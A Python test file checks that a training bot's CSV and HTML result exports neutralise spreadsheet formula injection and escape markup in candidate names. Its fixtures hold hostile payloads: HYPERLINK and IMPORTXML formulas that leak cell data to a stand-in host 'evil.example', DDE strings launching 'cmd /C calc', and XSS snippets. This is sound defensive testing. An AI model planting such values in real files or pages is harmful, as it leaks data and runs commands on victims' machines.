"""Formula injection: a name a candidate (or a trainer) chose never runs in the spreadsheet that opens
the cohort's CSV (`/export`, `oralblanc results --csv`), and never becomes markup in the HTML summary.

OWASP's CSV-injection advice: a text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage
return (also after leading spaces) is written with a leading apostrophe; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io

import pytest
from typer.testing import CliRunner

from bot import results
from bot.commands.trainer import app
from scenarios.model import Scenario, Turn
from storage.db import make_engine
from storage.repository import Repository
from tests.test_results_export import CR1, CR2, Cohort

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '   =IMPORTXML(CONCAT("http://evil.example/", A2), "//a")',
    "\u00a0=1+1",  # a no-break space first
    '\uff1dHYPERLINK("http://evil.example")',  # a full-width equals sign
]
HARMLESS = ["Anne-Marie Dupont", "O'Neil", "Zoé", "Jean-Luc =Picard", "12 Rue des Lilas"]
TEXT_COLUMNS = ("cohort", "candidate", "scenario_id", "started_at", "review_status", "criterion", "status")
RUNNABLE = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _runnable(cell: str) -> bool:
    """What a spreadsheet would compute: a formula start first, or after leading whitespace."""
    return cell.startswith(RUNNABLE) or cell.lstrip().startswith(RUNNABLE)


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_that_starts_a_formula_is_written_as_text(name: str) -> None:
    cohort = Cohort()
    cohort.session(name, {CR1: 2, CR2: 1}, 10.0)
    rows = _rows(results.to_csv("=cmd|' /C calc'!A0", cohort.rows))
    assert len(rows) == 2
    for row in rows:
        assert row["candidate"] == "'" + name  # the name as typed, shown as text
        assert row["cohort"] == "'=cmd|' /C calc'!A0"
        assert not any(_runnable(row[column]) for column in TEXT_COLUMNS), row


def test_ordinary_names_and_numbers_are_unchanged() -> None:
    cohort = Cohort()
    for name in HARMLESS:
        cohort.session(name, {CR1: 3, CR2: None}, 12.5)
    rows = _rows(results.to_csv("Promo 2027", cohort.rows))
    assert {r["candidate"] for r in rows} == set(HARMLESS) and {r["cohort"] for r in rows} == {"Promo 2027"}
    first = rows[0]
    assert int(first["user_id"]) >= 1 and int(first["session_id"]) >= 1
    assert float(first["score_20"]) == 12.5 and first["level"] == "3" and rows[1]["level"] == ""
    # a real number, even negative, stays a number; only text is neutralised
    assert results.spreadsheet_cell(-3.5) == -3.5 and results.spreadsheet_cell(-2) == -2
    assert results.spreadsheet_cell("-2") == "'-2"


def test_the_html_summary_escapes_names() -> None:
    cohort = Cohort()
    cohort.session("<img src=x onerror=alert(1)>", {CR1: 2}, 10.0)
    cohort.session('=HYPERLINK("http://evil.example")', {CR1: 1}, 8.0)
    page = results.to_html("<script>alert('c')</script>", cohort.rows, "fr")
    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "<script>" not in page and "&lt;script&gt;" in page


def test_oralblanc_results_csv_neutralises_names(
    cli_database: str, sample_scenario: Scenario, tmp_path
) -> None:
    name = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'
    engine = make_engine(cli_database)
    try:
        repo = Repository(engine)
        trainer = repo.get_or_create_user(telegram_id=1, display_name="Tom", role="trainer")
        cohort = repo.create_cohort("Promo", owner_id=trainer)
        user = repo.get_or_create_user(telegram_id=2, display_name=name)
        repo.add_member(cohort, user)
        session = repo.start_session(user, sample_scenario, "fr")
        repo.add_turn(session, Turn(speaker="candidate", text="Quels sont vos objectifs ?"))
        repo.finish_session(session)
        repo.save_scorecard(
            session,
            {"criteria": [{"code": CR1, "level": 2, "status": "scored"}], "overall": {"score_20": 13.3}},
            "test",
        )
    finally:
        engine.dispose()
    html = tmp_path / "promo.html"
    result = CliRunner().invoke(app, ["results", "Promo", "--csv", "--html", str(html)])
    assert result.exit_code == 0, result.output
    (row,) = _rows(result.output)
    assert row["candidate"] == "'" + name and row["score_20"] == "13.3" and row["level"] == "2"
    assert not any(_runnable(row[column]) for column in TEXT_COLUMNS)
    assert "&quot;http://evil.example/?&quot;&amp;A1" in html.read_text(encoding="utf-8")
